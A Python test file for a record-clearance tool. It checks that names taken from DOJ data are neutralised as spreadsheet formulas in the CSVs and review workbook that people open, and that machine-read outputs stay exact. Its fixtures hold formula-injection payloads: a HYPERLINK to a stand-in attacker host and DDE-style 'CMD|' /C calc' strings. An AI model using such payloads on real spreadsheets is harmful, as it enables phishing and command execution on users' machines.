"""Formula injection: text from the data never becomes a live spreadsheet formula in the files
people open, while the files programs read stay exact."""

from __future__ import annotations

import zipfile
from datetime import date
from pathlib import Path

import polars as pl
import pytest
from filings_fixtures import AS_OF, COUNTY, filing_block, policy_yaml
from openpyxl import load_workbook
from sqlalchemy import select

from clearance.engine import decide
from clearance.outputs.cells import FORMULA_STARTS, spreadsheet_safe, unescape_text
from clearance.outputs.filings import write_filings
from clearance.outputs.run import write_run
from clearance.policy.loader import policy_from_yaml_text
from clearance.records.doj import read_doj
from clearance.store.db import session_factory
from clearance.store.models import Person
from clearance.store.runs import store_run
from scenarios.builder import Event, rows_for, write_doj

HOSTILE = (
    '=HYPERLINK("http://attacker.example/?x","CLICK"),JANE',
    "+SUM(1+1),JOHN",
    "-2+3,ANN",
    "@SUM(A1),BOB",
)


def test_every_formula_start_is_neutralised_and_round_trips() -> None:
    values = [f"{start}CMD|' /C calc'!A0" for start in FORMULA_STARTS]
    n = len(values) + 2
    frame = pl.DataFrame(
        {"name": [*values, "O'BRIEN,PAT", None], "subject_id": ["=1"] * n, "n": list(range(n))}
    )
    safe = spreadsheet_safe(frame, keep=("subject_id",))
    assert safe["name"].to_list()[: len(values)] == ["'" + v for v in values]
    assert safe["name"].to_list()[len(values) :] == ["O'BRIEN,PAT", None]
    assert safe["subject_id"].to_list() == ["=1"] * n, "key columns stay exact"
    assert safe["n"].to_list() == list(range(n))
    assert unescape_text(safe, ["name"]).equals(frame)


@pytest.fixture(scope="module")
def hostile_run(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Path]:
    folder = tmp_path_factory.mktemp("formula")
    people = [
        rows_for(
            f"{9100 + i}",
            date(1980, 1, 1),
            [
                Event(
                    "11359 HS-POSSESS MARIJUANA FOR SALE",
                    date(2010, 5, 5),
                    date(2010, 6, 1),
                    level="F",
                    county=COUNTY,
                    case=f"CASE{i}",
                )
            ],
            name=name,
        )
        for i, name in enumerate(HOSTILE)
    ]
    source = write_doj(folder / "doj.dat", people)
    # Empty fields written empty rather than as the "  -  " placeholder: lines start with the
    # record id, as in the sample.
    source.write_text(source.read_text(encoding="utf-8").replace("  -  ", ""), "utf-8")
    text = policy_yaml(filing_block())
    records = read_doj([source])
    decided = decide(records, policy_from_yaml_text(text, "p.yaml"), AS_OF, COUNTY)
    run_dir = folder / "run"
    write_run(run_dir, decided, records, [source], text)
    return run_dir, source


def _starts_like_formula(cell: str) -> bool:
    return cell.startswith(FORMULA_STARTS)


def test_csvs_for_people_carry_no_live_formula(hostile_run: tuple[Path, Path]) -> None:
    run_dir, _ = hostile_run
    for name in ("convictions.csv", "people.csv"):
        table = pl.read_csv(run_dir / name, infer_schema=False)
        cells = [v for c in table.columns for v in table[c].drop_nulls().to_list()]
        assert not [v for v in cells if _starts_like_formula(v)], name
        names = set(table["name"].to_list())
        assert {"'" + n for n in HOSTILE} <= names, name


def test_results_csv_stays_byte_exact(hostile_run: tuple[Path, Path]) -> None:
    run_dir, source = hostile_run
    results = (run_dir / "results.csv").read_text(encoding="utf-8")
    for line in source.read_text(encoding="utf-8").splitlines()[1:]:
        assert line in results
    assert '"=HYPERLINK(""http://attacker.example/?x"",""CLICK""),JANE"' in results


def test_the_store_loads_the_names_exactly(hostile_run: tuple[Path, Path], tmp_path: Path) -> None:
    run_dir, source = hostile_run
    with session_factory(f"sqlite:///{tmp_path / 'c.db'}")() as db:
        run = store_run(db, run_dir, [source], "tester")
        names = set(db.execute(select(Person.name).where(Person.run_id == run.id)).scalars().all())
    assert set(HOSTILE) <= names


def test_review_workbook_writes_text_never_formulas(hostile_run: tuple[Path, Path]) -> None:
    run_dir, _ = hostile_run
    result = write_filings(run_dir, run_dir / "filings", order_date=date(2019, 3, 1))
    workbook = result.out_dir / "review.xlsx"
    with zipfile.ZipFile(workbook) as package:
        sheets = [n for n in package.namelist() if n.startswith("xl/worksheets/sheet")]
        for sheet in sheets:
            assert b"<f>" not in package.read(sheet), sheet
    found = {}
    for sheet in load_workbook(workbook):
        for row in sheet.iter_rows(min_row=2):
            for cell in row:
                if isinstance(cell.value, str) and cell.value in HOSTILE:
                    found[cell.value] = cell
    assert set(found) == set(HOSTILE)
    for cell in found.values():
        assert cell.data_type == "s" and cell.quotePrefix
    # The court's update file is data for the court's system: names exactly as recorded.
    updates = list(result.out_dir.glob("court-update-*.csv"))
    assert updates
    text = "".join(p.read_text(encoding="utf-8") for p in updates)
    assert "=HYPERLINK" in text and "'=HYPERLINK" not in text
